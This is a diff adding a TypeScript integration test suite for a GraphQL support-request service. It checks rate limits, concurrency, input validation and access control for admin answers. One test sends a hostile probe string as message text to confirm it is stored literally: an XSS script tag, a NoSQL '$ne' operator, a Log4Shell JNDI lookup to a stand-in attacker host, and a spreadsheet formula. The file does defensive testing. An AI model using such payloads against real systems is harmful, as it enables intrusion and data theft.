@@ -1,0 +1,126 @@
+import { beforeAll, describe, expect, test } from '@jest/globals';
+import { supportCountKey } from '#domain/keys';
+import { limits } from '#domain/limits';
+import { hostileAddresses } from '#domain/testing/hostile-addresses';
+import { hostileNames } from '#test/support/files/hostile-text';
+import { askGraphql, type Credentials } from '../environment/ask-graphql';
+import { guest } from '../environment/sign-in';
+import { openOwnTestEnvironment } from '../environment/test-environment';
+import { put } from '../fixtures/company';
+import { givenSupportRequest } from '../fixtures/support';
+import { graphqlCalls } from '../requests/requests';
+import { guestSender } from '../requests/support';
+
+let environment: Awaited<ReturnType<typeof openOwnTestEnvironment>>;
+beforeAll(async () => {
+  environment = await openOwnTestEnvironment('support');
+}, 120_000);
+
+const { guest: ofGuest, allGuests } = limits.support.perHour;
+const request = graphqlCalls['Mutation.createSupportRequest'].request(guestSender);
+const inputOf = (more: object) => ({ ...(request.variables?.input as object), ...more });
+const send = (as: Credentials, more: object = {}) =>
+  askGraphql(environment.stage.graphql, as, { ...request, variables: { input: inputOf(more) } });
+const rowsWith = async (text: string) =>
+  (await environment.stage.contents()).split('\n').filter((row) => row.includes(text)).length;
+
+/** This hour and the next, as the test may run across the change. */
+const givenCount = async (who: string, count: number) => {
+  for (const later of [0, 3_600_000]) {
+    const hour = new Date(Date.now() + later).toISOString().slice(0, 13);
+    await put(environment.stage, { ...supportCountKey(who, hour), count });
+  }
+};
+
+describe('a script', () => {
+  test('sends no more with 64 requests at once, nor with 40 in one document', async () => {
+    const script = await guest(environment.stage);
+    const answers = await Promise.all(Array.from({ length: 64 }, () => send(script, { subject: 'At once' })));
+    const field = `createSupportRequest(input: { topic: OTHER, email: "a@b.example", subject: "Aliases", text: "x" }) { id }`;
+    const query = `mutation { ${Array.from({ length: 40 }, (_, at) => `a${at}: ${field}`).join(' ')} }`;
+    await askGraphql(environment.stage.graphql, script, { query });
+    const taken = answers.filter(({ errors }) => errors.length === 0).length;
+    expect(taken).toBeGreaterThan(0);
+    for (const { errors } of answers)
+      for (const { errorType } of errors) expect(['support.too-many', 'write.collided']).toContain(errorType);
+    const all = (await rowsWith('"At once"')) + (await rowsWith('"Aliases"'));
+    // It may have begun in the hour before.
+    expect(all).toBeLessThanOrEqual(2 * ofGuest);
+  });
+
+  test('gains nothing by new identities, and keeps no user from sending', async () => {
+    await givenCount('GUESTS', allGuests);
+    for (let at = 0; at < 5; at += 1) {
+      const { errors } = await send(await guest(environment.stage), { subject: 'New identity' });
+      expect(errors[0]).toMatchObject({ errorType: 'support.too-many', errorInfo: { of: 'guests' } });
+    }
+    expect(await rowsWith('"New identity"')).toBe(0);
+    const { errors } = await environment.personas.U0.ask(
+      graphqlCalls['Mutation.createSupportRequest'].request('user'),
+    );
+    expect(errors).toEqual([]);
+    await givenCount('GUESTS', 0);
+  });
+});
+
+test.each(hostileNames)('a subject is not %s', async (_what, subject, code) => {
+  const { errors } = await send(await guest(environment.stage), { subject });
+  expect(errors[0]).toMatchObject({ errorType: code, errorInfo: { field: 'subject' } });
+});
+
+test('hostile text is no address', async () => {
+  // An e-mail address may begin with slashes.
+  for (const email of hostileAddresses.filter((text) => !text.includes('@'))) {
+    await givenCount('GUESTS', 0);
+    const { errors } = await send(await guest(environment.stage), { email });
+    expect([email, errors[0]?.errorInfo]).toEqual([email, expect.objectContaining({ field: 'email' })]);
+  }
+});
+
+test('hostile text as a subject and a message is kept as it is, or refused by the field', async () => {
+  for (const text of hostileAddresses) {
+    await givenCount('GUESTS', 0);
+    const { errors } = await send(await guest(environment.stage), { subject: text, text });
+    for (const { errorType, errorInfo } of errors) {
+      expect([text, errorType]).toEqual([text, expect.stringMatching(/^input\./)]);
+      expect(['subject', 'text']).toContain((errorInfo as { field: string }).field);
+    }
+  }
+});
+
+test('a message that looks like a script is kept as text', async () => {
+  const by = await guest(environment.stage);
+  const text = '<script>alert(1)</script> {"$ne":null} ${jndi:ldap://evil.example} =1+1';
+  await send(by, { subject: 'As text', text });
+  const { data } = await environment.personas.AD.ask({
+    query: '{ listSupportRequests(status: OPEN, limit: 100) { items { subject text } } }',
+  });
+  expect(data?.listSupportRequests).toMatchObject({
+    items: expect.arrayContaining([{ subject: 'As text', text }]) as unknown,
+  });
+});
+
+describe('answers', () => {
+  test('that 64 admins send at once are one', async () => {
+    const id = await givenSupportRequest(environment.stage, environment.bystander.sub, 'OPEN');
+    const answer = graphqlCalls['Mutation.answerSupportRequest'].request(id);
+    const answers = await Promise.all(Array.from({ length: 64 }, () => environment.personas.AD.ask(answer)));
+    expect(answers.filter(({ errors }) => errors.length === 0)).toHaveLength(1);
+    for (const { errors } of answers)
+      for (const { errorType } of errors) expect(['support.stale', 'write.collided']).toContain(errorType);
+    const { data } = await environment.personas.AD.ask(graphqlCalls['Query.getSupportRequest'].request(id));
+    expect(data?.getSupportRequest).toMatchObject({ answers: [{ text: 'Within two days.' }] });
+  });
+
+  test('are shown to nobody but the sender and admins', async () => {
+    const { stage, personas } = environment;
+    const id = await givenSupportRequest(stage, personas['P+'].sub ?? '', 'ANSWERED');
+    const own = graphqlCalls['Query.listMySupportRequests'].request('');
+    expect(JSON.stringify((await personas['P+'].ask(own)).data)).toContain(id);
+    for (const who of ['U0', 'P-', 'O+', 'AD'] as const)
+      expect([who, JSON.stringify((await personas[who].ask(own)).data)]).toEqual([
+        who,
+        expect.not.stringContaining(id),
+      ]);
+  });
+});
